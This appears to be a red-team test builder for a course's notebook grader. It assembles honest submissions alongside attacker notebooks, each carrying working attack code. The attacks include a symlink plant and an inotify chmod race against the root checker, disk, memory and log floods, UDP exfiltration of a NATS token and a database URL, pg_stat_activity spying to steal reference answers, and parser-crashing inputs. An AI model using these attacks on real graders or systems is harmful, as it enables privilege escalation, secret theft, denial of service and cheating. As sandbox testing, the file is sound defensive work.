"""Rebuild hostile3's class: honest students (the solutions' notebooks as handed in) and one attacker per
idea, each a copy of the solution with code added to one exercise cell (so everything else still passes).

    python tests/grading/hostile3/build_class.py SUBMISSIONS [attack ...]
"""
from __future__ import annotations

import sys
import textwrap
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[3]
LABS = {"03": "03_postgres_queue", "07": "07_retries_dead_letters", "12": "12_capstone_stayhub",
        "13": "13_replicated_broker"}

ATTACKS: dict[str, tuple[str, str, str]] = {}  # name -> (lab, exercise, code added before the answer)


def attack(name, lab, exercise):
    def register(code):
        ATTACKS[name] = (lab, exercise, textwrap.dedent(code))
        return code
    return register


# 1. The exchange folder is sticky 0o1777 and shared with the checker (root); launch_spec copies each worker's spec
# into exchange/"specs", made with mkdir(exist_ok=True): a symlink planted there first points root's copy anywhere.
SPECS_SYMLINK = attack("specs_symlink", "12", "12.predict_monday")("""
import os as _os
_ex = _os.environ.get("COURSE_EXCHANGE_DIR")
if _ex and not _os.path.lexists(_ex + "/specs"):
    try:
        _os.symlink("/var/tmp/h3target", _ex + "/specs")
        print("planted", _ex + "/specs")
    except OSError as _e:
        print("could not plant:", _e)
""")

# 1b. Same, on lab 13 (the consumer processes of 13.keep_alive)
attack("specs_symlink13", "13", "13.predict_killed_consumer")(SPECS_SYMLINK)

# 3. The exchange folder is on the host's disk and only each file is bounded (64 MiB): its total is not, unlike
# the scratch folder's 256 MiB. Written here: 1 GiB (16 files), to show the bound is not there; the same loop
# unbounded fills the disk the server and every classmate share.
attack("exchange_flood", "03", "03.predict_read_then_mark")("""
import os as _os
_ex = _os.environ.get("COURSE_EXCHANGE_DIR")
_n = 0
if _ex:
    _block = b"x" * (1 << 20)
    for _i in range(16):
        try:
            with open(f"{_ex}/flood-{_os.getpid()}-{_i}", "wb") as _f:
                for _ in range(64):
                    _f.write(_block)
            _n += 1
        except OSError as _e:
            print("flood stopped:", _e)
            break
    print(f"flood: {_n} x 64 MiB written in {_ex}")
    _s = _os.statvfs(_ex)
    print("free GiB there:", _s.f_bavail * _s.f_frsize / 2**30)
""")

# 4. No bound on a notebook's memory in all: 2 GiB of address space per process, 128 processes. Shown with 3
# children holding 1.5 GiB each (4.5 GiB), more than one process may; 128 of them would take the machine.
attack("memory_sum", "03", "03.predict_for_update_wait")("""
import os as _os, time as _time
_kids = []
for _i in range(3):
    _r, _w = _os.pipe()
    _pid = _os.fork()
    if _pid == 0:
        try:
            _b = bytearray(3 << 29)
            for _j in range(0, len(_b), 4096):
                _b[_j] = 1
            _os.write(_w, b"y")
            _time.sleep(8)
        except MemoryError:
            _os.write(_w, b"n")
        _os._exit(0)
    _kids.append((_pid, _r))
_got = b"".join(_os.read(_r, 1) for _, _r in _kids)
print("children holding 1.5 GiB each:", _got.count(b"y"), "of", len(_kids))
for _pid, _ in _kids:
    _os.waitpid(_pid, 0)
""")

# 11. The course package is the reference queue and a sandbox may import it: 03.claim answered by calling it.
attack("reference_reuse", "03", "03.claim")("""#AFTER
def claim(conn, lease_s):
    job = queue.claim_one(conn, lease_s=lease_s)
    return None if job is None else (job.id, job.type, job.payload)
_claim_from_course = claim
""")

# 2. The same fixed name, as a folder of the notebook's own: the checker (root) copies each worker's spec into
# it, then chmods the copy 0644 by its path. A thread of the answer host, told by inotify of each new file, puts
# a symlink in its place between the two: root chmods the link's target (any file on the machine), then the
# copy is put back, so the worker starts as if nothing happened.
SPECS_CHMOD_RACE = """
import os as _os, threading as _threading, ctypes as _ctypes, struct as _struct, time as _time
_ex = _os.environ.get("COURSE_EXCHANGE_DIR")
_TARGET = "/var/tmp/h3secret"
def _race(folder):
    libc = _ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(0)
    if fd < 0 or libc.inotify_add_watch(fd, folder.encode(), 0x100) < 0:
        print("no inotify:", _ctypes.get_errno(), flush=True)
        return
    done = set()
    while True:
        data = _os.read(fd, 65536)
        at = 0
        while at < len(data):
            wd, mask, cookie, size = _struct.unpack_from("iIII", data, at)
            name = data[at + 16: at + 16 + size].rstrip(b"\\x00").decode()
            at += 16 + size
            if name.endswith(".moved") or name in done:
                continue
            done.add(name)
            path = _os.path.join(folder, name)
            try:
                _os.rename(path, path + ".moved")
                _os.symlink(_TARGET, path)
                _time.sleep(0.05)
                _os.unlink(path)
                _os.rename(path + ".moved", path)
                print("swapped", name, "->", _oct(_TARGET), flush=True)
            except OSError as e:
                print("race:", e, flush=True)
def _oct(path):
    try:
        return oct(_os.stat(path).st_mode)
    except OSError as e:
        return str(e)
if _ex and not _os.path.lexists(_ex + "/specs"):
    _os.mkdir(_ex + "/specs")
    _os.chmod(_ex + "/specs", 0o777)
    _threading.Thread(target=_race, args=(_ex + "/specs",), daemon=True).start()
    print("watching", _ex + "/specs", "target now", _oct(_TARGET))
"""
attack("specs_chmod_race", "12", "12.predict_monday")(SPECS_CHMOD_RACE)
attack("specs_chmod_race13", "13", "13.predict_killed_consumer")(SPECS_CHMOD_RACE)

# 5. Copying, unseen: two students hand in 03.claim as the same code under other names (the summary flags
# that); a third makes the comparison itself stop, for the whole class and every lab: a code answer that
# Python's parser cannot build (ast.parse raises RecursionError, not SyntaxError, on a 20,000-term sum;
# MemoryError on 20,000 unary minuses), in an exercise the ring gives up (03.claim_batch).
COPIED_CLAIM = """
def claim(connection, seconds):
    \"\"\"Mine, honest.\"\"\"
    row = connection.execute(\"\"\"
        UPDATE jobs SET locked_until = now() + make_interval(secs => %s), attempts = attempts + 1
        WHERE id = (SELECT id FROM jobs WHERE run_at <= now() AND (locked_until IS NULL OR locked_until < now())
                    ORDER BY run_at LIMIT 1 FOR UPDATE SKIP LOCKED)
        RETURNING id, type, payload\"\"\", [seconds]).fetchone()
    return row
"""
attack("ring_a", "03", "03.claim")("#AFTER" + COPIED_CLAIM)
attack("ring_b", "03", "03.claim")("#AFTER" + COPIED_CLAIM.replace("connection", "c").replace("seconds", "lease").replace("row", "r"))
attack("ring_breaker", "03", "03.claim_batch")("_breaker = " + "+".join(["1"] * 20000) + "\n")

# 7 and 8. Lab 13's consumer processes are handed the checkout's own NATS token (COURSE_NATS_TOKEN, the one in
# .course/nats-token that guards every course server on the machine), and a sandbox's UDP is not confined
# (Landlock rules TCP only; the answer host and the workers have no network namespace): the handler sends the
# token out. (AFTER: the code goes after the answer.)
attack("nats_token_udp", "13", "13.keep_alive")("""#AFTER
_answer = render_invoice
def render_invoice(task):
    import os, socket
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(("token " + os.environ.get("COURSE_NATS_TOKEN", "(none)") + " uid " + str(os.getuid())).encode(),
                     ("127.0.0.1", 47999))
    except OSError as error:
        print("udp:", error)
    return _answer(task)
""")
attack("udp_out03", "03", "03.predict_batches")("""
import os as _os, socket as _socket
try:
    with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as _s:
        _s.sendto(("answer host uid " + str(_os.getuid()) + " " + _os.environ.get("DATABASE_URL", "")).encode(), ("127.0.0.1", 47999))
    print("udp sent")
except OSError as _e:
    print("udp:", _e)
""")

# 9. The checks log in as the notebook's own role, and pg_stat_activity shows a role its own sessions'
# statements: a thread of the answer host, on its own connection, reads every statement the checker's sessions
# run (the reference's, hidden in course/grading/checks) and sends each new one out over UDP.
SPY = """
import os as _os, threading as _threading, socket as _socket, time as _time
def _spy():
    import psycopg
    seen = set()
    try:
        with psycopg.connect(_os.environ["DATABASE_URL"], autocommit=True) as c, \\
                _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as s:
            end = _time.monotonic() + 100
            while _time.monotonic() < end:
                for (q,) in c.execute("SELECT query FROM pg_stat_activity WHERE usename = current_user "
                                      "AND pid <> pg_backend_pid()"):
                    if q and q not in seen:
                        seen.add(q)
                        s.sendto(("spy " + " ".join(q.split()))[:8000].encode(), ("127.0.0.1", 47999))
                _time.sleep(0.002)
    except Exception as e:
        print("spy:", e)
_threading.Thread(target=_spy, daemon=True).start()
"""
attack("stat_spy03", "03", "03.predict_read_then_mark")(SPY)
attack("stat_spy12", "12", "12.predict_monday")(SPY)

# 10. The same window used for an unearned pass: claim and claim_batch that know no SQL of their own beyond a
# naive (wrong) fallback. Each call looks in pg_stat_activity (on the very connection the check lent) for the
# statement another session of its role last ran — the check's reference — and runs that.
attack("adaptive_claim", "03", "03.claim")("""#AFTER
def _borrowed(conn, needle):
    for (q,) in conn.execute("SELECT query FROM pg_stat_activity WHERE usename = current_user "
                             "AND pid <> pg_backend_pid() AND query LIKE %s", [needle]):
        return q.replace("%", "%%").replace("$1", "%s").replace("$2", "%s")
    return None

def claim(conn, lease_s):
    q = _borrowed(conn, "UPDATE jobs SET locked_until%LIMIT 1 FOR UPDATE SKIP LOCKED%")
    if q:
        return conn.execute(q, [lease_s]).fetchone()
    return conn.execute("UPDATE jobs SET locked_until = now() + make_interval(secs => %s), attempts = attempts + 1 "
                        "WHERE id = (SELECT min(id) FROM jobs) RETURNING id, type, payload", [lease_s]).fetchone()
""")
attack("adaptive_batch", "03", "03.claim_batch")("""#AFTER
def _borrowed(conn, needle):
    for (q,) in conn.execute("SELECT query FROM pg_stat_activity WHERE usename = current_user "
                             "AND pid <> pg_backend_pid() AND query LIKE %s", [needle]):
        return q.replace("%", "%%").replace("$1", "%s").replace("$2", "%s")
    return None

def claim_batch(conn, limit, lease_s):
    q = _borrowed(conn, "UPDATE jobs SET locked_until%ANY(ARRAY(%")
    if q:
        return conn.execute(q, [lease_s, limit]).fetchall()
    return conn.execute("UPDATE jobs SET locked_until = now() + make_interval(secs => %s), attempts = attempts + 1 "
                        "WHERE id IN (SELECT id FROM jobs LIMIT %s) RETURNING id, type, payload", [lease_s, limit]).fetchall()
""")

# 12. The server's log has no bound either: each RAISE WARNING of 1 MB is 1 MB in .course/pg.log (the server
# logs to stderr, which the course sends to that one file; no rotation). 256 MB here; any amount in a loop.
attack("server_log_flood", "03", "03.predict_race_waits")("""
import os as _os, psycopg as _psycopg
try:
    with _psycopg.connect(_os.environ["DATABASE_URL"], autocommit=True) as _c:
        _c.add_notice_handler(lambda _d: None)
        _c.execute("DO $$ BEGIN FOR i IN 1..256 LOOP RAISE WARNING '%', repeat('x', 1000000); END LOOP; END $$")
    print("256 MB of warnings sent to the server's log")
except Exception as _e:
    print("log flood:", _e)
""")


def build(out: Path, names: list[str]) -> None:
    for lab in ("03", "07", "12", "13"):
        for student in ("honest_ann", "honest_bob"):
            folder = out / student
            folder.mkdir(parents=True, exist_ok=True)
            (folder / f"{LABS[lab]}.ipynb").write_bytes((ROOT / "solutions" / f"{LABS[lab]}.ipynb").read_bytes())
    for name in names:
        lab, exercise, code = ATTACKS[name]
        notebook = nbformat.read(ROOT / "solutions" / f"{LABS[lab]}.ipynb", as_version=4)
        for cell in notebook.cells:
            if cell.cell_type == "code" and cell.metadata.get("course", {}).get("exercise") == exercise:
                cell.source = (cell.source + "\n" + code) if code.startswith("#AFTER") else (code + "\n" + cell.source)
                break
        else:
            raise LookupError(exercise)
        folder = out / f"x_{name}"
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(notebook, folder / f"{LABS[lab]}.ipynb")


# 6. A notebook that is JSON nested 200,000 deep (200 kB): json.loads raises RecursionError, not
# JSONDecodeError. Whole-file attacks: name -> (lab, the file's text).
FILES = {"nested_json": ("07", "[" * 200_000)}


def build_files(out: Path, names: list[str]) -> None:
    for name in names:
        lab, text = FILES[name]
        folder = out / f"x_{name}"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{LABS[lab]}.ipynb").write_text(text)


if __name__ == "__main__":
    chosen = sys.argv[2:] or [*ATTACKS, *FILES]
    build(Path(sys.argv[1]), [n for n in chosen if n in ATTACKS])
    build_files(Path(sys.argv[1]), [n for n in chosen if n in FILES])
    unknown = [n for n in chosen if n not in ATTACKS and n not in FILES]
    if unknown:
        raise SystemExit(f"no such attack: {unknown}; known: {sorted([*ATTACKS, *FILES])}")
